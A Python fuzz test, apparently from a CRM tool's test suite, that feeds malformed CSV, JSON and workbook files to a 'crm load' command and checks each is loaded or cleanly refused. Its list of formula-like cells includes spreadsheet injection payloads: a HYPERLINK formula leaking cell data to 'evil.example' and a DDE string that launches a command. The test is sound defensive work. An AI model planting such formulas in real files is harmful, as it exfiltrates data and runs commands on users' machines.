"""`crm load` of CRM files Hypothesis makes up: CSV, JSON Lines and workbooks with broken
quoting, huge values, mixed encodings, NUL bytes, BOMs, CR/CRLF line ends, formula-like
cells, and files of random bytes.

Whatever the file, the load ends in one of two ways: it loads (exit 0), or it is refused
(exit 2) with a message naming the file and, for an invalid value, its row, column and
reason, and the stored CRM is exactly as it was. Never a traceback, never exit 1.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from tests.integration.test_crm_bad_input import dump
from tests.reliability.fuzz_support import (  # noqa: F401  (quick_cli: a fixture)
    assert_rows_named,
    fuzz,
    outcome_of,
    quick_cli,
    tally,
)

from listbridge.store.db import Store

COLUMNS = [
    "id", "type", "first_name", "last_name", "company_name", "email", "email2", "phone1",
    "zip", "country", "deceased", "email_opt_out", "do_not_contact", "custom.Gift",
    "custom.Since", "nickname", "",
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-2+3", "@SUM(A1:A9)", "=1+1",
    "'=quoted", "\t=tab", "\r=cr", "=cmd|' /C calc'!A0", "'''-x",
]  # fmt: skip
PLAIN = ["Ann", "Zoë", "Renée", "O'Brien", 'say "hi"', "a,b", "line\nbreak", "ﬁ", "😀", "  "]
EMAILS = ["ann@example.org", "ANN@Example.org ", "bad@@example.org", "zoë@exämple.org", "x@y"]
VALUES = ["true", "false", "yes", "maybe", "12.5", "-5", "1e3", "2024-02-30", "2024-01-01", ""]
HUGE = [101, 201, 5_000, 140_000, 1_100_000]

cells = st.one_of(
    st.sampled_from(FORMULAS + PLAIN + EMAILS + VALUES),
    st.text(max_size=20),
    st.sampled_from(HUGE).map(lambda n: "x" * n),
    st.text(alphabet="\x00\"',\r\n ;=", max_size=6),
)
ids = st.one_of(st.sampled_from(["A1", "A2", "N1", "=A1", " A1", "", "a1"]), st.text(max_size=8))


@st.composite
def tables(draw: st.DrawFn) -> list[list[str]]:
    header = draw(st.lists(st.sampled_from(COLUMNS[1:]), max_size=5, unique=True))
    header = ["id", *header] if draw(st.booleans()) else header
    width = st.integers(max(0, len(header) - 1), len(header) + 1)
    rows = draw(
        st.lists(width.flatmap(lambda n: st.lists(cells, min_size=n, max_size=n)), max_size=4)
    )
    if header[:1] == ["id"]:
        rows = [[draw(ids), *row[1:]] if row else row for row in rows]
    return [header, *rows]


@st.composite
def csv_bytes(draw: st.DrawFn) -> bytes:
    rows = draw(tables())
    end = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    quoting = draw(st.sampled_from(["minimal", "all", "none"]))
    if quoting == "none":  # joined by hand: quotes stay as they are, balanced or not
        text = end.join(",".join(row) for row in rows) + end
    else:
        out = io.StringIO(newline="")
        mode = csv.QUOTE_ALL if quoting == "all" else csv.QUOTE_MINIMAL
        csv.writer(out, lineterminator=end, quoting=mode).writerows(rows)
        text = out.getvalue()
    data = _encoded(draw, text)
    return (b"\xef\xbb\xbf" if draw(st.booleans()) else b"") + data


def _encoded(draw: st.DrawFn, text: str) -> bytes:
    """UTF-8, or another encoding, or UTF-8 with some lines in Latin-1 (mixed)."""
    how = draw(st.sampled_from(["utf-8", "utf-8", "latin-1", "utf-16", "mixed", "cp1252"]))
    if how == "mixed":
        lines = text.splitlines(keepends=True)
        flip = draw(st.lists(st.booleans(), min_size=len(lines), max_size=len(lines)))
        return b"".join(
            line.encode("latin-1" if f else "utf-8", errors="replace")
            for line, f in zip(lines, flip, strict=True)
        )
    return text.encode(how, errors="replace")


def jsonl_value(draw: st.DrawFn) -> object:
    return draw(
        st.one_of(
            cells,
            st.none(),
            st.booleans(),
            st.integers(),
            st.floats(allow_nan=True),
            st.lists(st.integers(), max_size=2),
            st.dictionaries(st.text(max_size=3), st.integers(), max_size=1),
        )
    )


@st.composite
def jsonl_bytes(draw: st.DrawFn) -> bytes:
    lines: list[str] = []
    for _ in range(draw(st.integers(0, 4))):
        kind = draw(st.sampled_from(["object", "object", "scalar", "broken", "blank"]))
        if kind == "object":
            keys = draw(st.lists(st.sampled_from(COLUMNS) | st.text(max_size=5), max_size=5))
            lines.append(json.dumps({k: jsonl_value(draw) for k in keys}))
        elif kind == "scalar":
            lines.append(json.dumps(jsonl_value(draw)))
        elif kind == "broken":
            lines.append(draw(st.text(max_size=30)))
        else:
            lines.append("")
    end = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    return _encoded(draw, end.join(lines))


@st.composite
def json_bytes(draw: st.DrawFn) -> bytes:
    """A JSON array of rows, as `crm export --format json` writes one, or broken."""
    items = []
    for _ in range(draw(st.integers(0, 3))):
        keys = draw(st.lists(st.sampled_from(COLUMNS) | st.text(max_size=5), max_size=5))
        items.append({k: jsonl_value(draw) for k in keys} if draw(st.booleans()) else 1)
    text = json.dumps(items, ensure_ascii=draw(st.booleans()))
    if draw(st.booleans()):
        text = text[: draw(st.integers(0, len(text)))]
    return _encoded(draw, text)


@st.composite
def xlsx_bytes(draw: st.DrawFn) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in draw(tables()):
        sheet.append([_xlsx_cell(draw, value) for value in row])
    if draw(st.booleans()):
        book.create_sheet("Notes").append(["notes", _xlsx_cell(draw, draw(cells))])
        if draw(st.booleans()):
            book.active = 1
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xlsx_cell(draw: st.DrawFn, text: str) -> object:
    """A cell as a workbook holds it: text (formulas included), a number, a date, an error."""
    kind = draw(st.sampled_from(["text", "text", "number", "bool", "error", "none"]))
    if kind == "number":
        return draw(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
    if kind == "bool":
        return draw(st.booleans())
    if kind == "error":
        return draw(st.sampled_from(["#DIV/0!", "#N/A", "#REF!"]))
    if kind == "none":
        return None
    return ILLEGAL_CHARACTERS_RE.sub("", text)[:32_767]  # a cell holds no more


random_bytes = st.binary(max_size=400)
files = st.one_of(
    st.tuples(st.just(".csv"), csv_bytes()),
    st.tuples(st.just(".jsonl"), jsonl_bytes()),
    st.tuples(st.just(".xlsx"), xlsx_bytes()),
    st.tuples(st.just(".json"), json_bytes()),
    st.tuples(st.sampled_from([".csv", ".jsonl", ".xlsx", ".json"]), random_bytes),
)
_numbers = itertools.count()


@pytest.fixture
def crm(quick_cli):  # noqa: F811
    """The builtin CRM with a number and a date field, for every example of a test."""
    assert quick_cli("crm", "fields", "add", "Gift", "--type", "number").exit_code == 0
    assert quick_cli("crm", "fields", "add", "Since", "--type", "date").exit_code == 0
    return quick_cli


def loaded_or_refused(cli, store: Store, tmp_path: Path, suffix: str, data: bytes, skip: bool):
    path = tmp_path / f"fuzz{next(_numbers)}{suffix}"
    path.write_bytes(data)
    before = dump(store)
    done = cli("crm", "load", str(path), *(["--skip-invalid"] if skip else []))
    outcome = outcome_of(done)
    tally(f"crm load {suffix}", outcome)
    if outcome == "refused":
        assert f"{path}" in done.stderr, done.stderr
        if "invalid value(s)" in done.stderr or "the file is refused" in done.stderr:
            assert_rows_named(done.stderr, str(path))
        assert dump(store) == before, "a refused file changed the CRM"
    else:
        assert f"loaded {path.name}:" in done.stdout


@given(file=files, skip=st.booleans())
@example(file=(".csv", b"id,first_name\nA1,\x00Ann\n"), skip=False)
@example(file=(".csv", b'\xef\xbb\xbfid,first_name\r\nA1,"Ann\r\nA2,Bo\r\n'), skip=True)
@example(file=(".jsonl", b'{"id": "A1", "first_name": NaN}\n'), skip=False)
@example(file=(".xlsx", b"PK\x03\x04 not a zip"), skip=False)
@example(file=(".csv", b"id,'\nA1,x\n"), skip=False)  # a column named ', shown as "'"
@fuzz(20)
def test_any_crm_file_loads_or_is_refused_naming_row_and_column(
    crm, store: Store, tmp_path: Path, file: tuple[str, bytes], skip: bool
) -> None:
    suffix, data = file
    loaded_or_refused(crm, store, tmp_path, suffix, data, skip)


SUBPROCESS_CASES = [
    ("refused.csv", b'\xef\xbb\xbfid,first_name,email\r\nA1,"Ann\x00,\xff@example.org\rA2,=1+1,'),
]


def test_no_traceback_reaches_the_terminal_of_a_real_process(tmp_path: Path) -> None:
    """The same refusals from `python -m listbridge` itself: what the user's terminal shows.
    (On SQLite only: what reaches stderr is the process's doing, not the database's, and a
    process takes seconds to start.)"""
    db_url = f"sqlite:///{tmp_path / 'process.db'}"
    for name, data in SUBPROCESS_CASES:
        path = tmp_path / name
        path.write_bytes(data)
        done = subprocess.run(
            [sys.executable, "-m", "listbridge", "--db", db_url, "crm", "load", str(path)],
            capture_output=True, text=True, timeout=120, check=False,
        )  # fmt: skip
        assert "Traceback" not in done.stderr, done.stderr
        assert done.returncode == 2, done.stderr
        assert f"{path}" in done.stderr, done.stderr
